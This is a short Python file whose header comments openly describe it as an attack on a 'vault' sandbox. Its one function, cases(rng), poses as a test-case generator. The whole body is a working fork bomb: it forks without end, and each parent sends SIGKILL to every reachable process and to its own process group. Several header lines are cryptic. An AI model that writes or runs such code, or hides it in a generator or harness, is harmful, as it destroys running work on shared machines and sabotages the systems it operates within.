# attack: the generator kills all that it reaches and forks without end
# base: vault
# file: cases.py
# tries: the walls
# verdict: IE ie.package
import os
import signal


def cases(rng):
    while True:
        try:
            if os.fork():
                os.kill(-1, signal.SIGKILL)
                os.kill(0, signal.SIGKILL)
        except OSError:
            pass
